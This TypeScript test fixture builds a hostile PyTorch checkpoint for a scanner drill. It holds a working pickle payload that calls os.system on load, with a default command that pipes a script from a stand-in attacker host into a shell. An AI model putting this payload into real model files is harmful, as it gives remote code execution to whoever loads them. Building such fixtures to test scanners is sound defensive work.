/**
 * A hostile PyTorch checkpoint for the drill, built byte by byte (no Python): a zip laid out
 * as torch.save writes it, whose data.pkl calls os.system when unpickled. It never runs
 * anything here; it only has to be what a real attacker would ship, so the user's scanner
 * (policy `formats`) gets a realistic target.
 */
import { crc32, deflateRawSync } from 'node:zlib';

/** Pickle protocol 2: GLOBAL os.system, a one-string tuple, REDUCE - what `__reduce__` exploits emit. */
function osSystemPickle(cmd: string): Buffer {
  const arg = Buffer.from(cmd, 'utf8');
  const len = Buffer.alloc(4);
  len.writeUInt32LE(arg.length);
  return Buffer.concat([
    Buffer.from([0x80, 2]), // PROTO 2
    Buffer.from('cos\nsystem\n', 'latin1'), // GLOBAL os system
    Buffer.from('X', 'latin1'), len, arg, // BINUNICODE cmd
    Buffer.from([0x85]), // TUPLE1
    Buffer.from('R.', 'latin1'), // REDUCE, STOP
  ]);
}

export interface ZipMember { name: string; data: Buffer; deflate?: boolean }

/** Assemble a zip (stored or deflated members) the way PyTorch's writer lays it out. */
export function makeZip(members: ZipMember[]): Buffer {
  const locals: Buffer[] = [];
  const central: Buffer[] = [];
  let offset = 0;
  for (const m of members) {
    const name = Buffer.from(m.name, 'utf8');
    const body = m.deflate ? deflateRawSync(m.data) : m.data;
    const crc = crc32(m.data);
    const lh = Buffer.alloc(30);
    lh.writeUInt32LE(0x04034b50, 0);
    lh.writeUInt16LE(20, 4);
    lh.writeUInt16LE(0x800, 6);
    lh.writeUInt16LE(m.deflate ? 8 : 0, 8);
    lh.writeUInt32LE(crc, 14);
    lh.writeUInt32LE(body.length, 18);
    lh.writeUInt32LE(m.data.length, 22);
    lh.writeUInt16LE(name.length, 26);
    locals.push(lh, name, body);
    const ch = Buffer.alloc(46);
    ch.writeUInt32LE(0x02014b50, 0);
    ch.writeUInt16LE(20, 4);
    ch.writeUInt16LE(20, 6);
    ch.writeUInt16LE(0x800, 8);
    ch.writeUInt16LE(m.deflate ? 8 : 0, 10);
    ch.writeUInt32LE(crc, 16);
    ch.writeUInt32LE(body.length, 20);
    ch.writeUInt32LE(m.data.length, 24);
    ch.writeUInt16LE(name.length, 28);
    ch.writeUInt32LE(offset, 42);
    central.push(ch, name);
    offset += 30 + name.length + body.length;
  }
  const cd = Buffer.concat(central);
  const eocd = Buffer.alloc(22);
  eocd.writeUInt32LE(0x06054b50, 0);
  eocd.writeUInt16LE(members.length, 8);
  eocd.writeUInt16LE(members.length, 10);
  eocd.writeUInt32LE(cd.length, 12);
  eocd.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, cd, eocd]);
}

/** pytorch_model.bin whose data.pkl runs `cmd` on torch.load (weights_only=False). */
export function hostileTorchCheckpoint(cmd = 'curl -s https://attacker.invalid/x | sh'): Buffer {
  return makeZip([
    { name: 'archive/data.pkl', data: osSystemPickle(cmd) },
    { name: 'archive/byteorder', data: Buffer.from('little') },
    { name: 'archive/data/0', data: Buffer.alloc(16, 0x80) },
    { name: 'archive/version', data: Buffer.from('3\n') },
  ]);
}
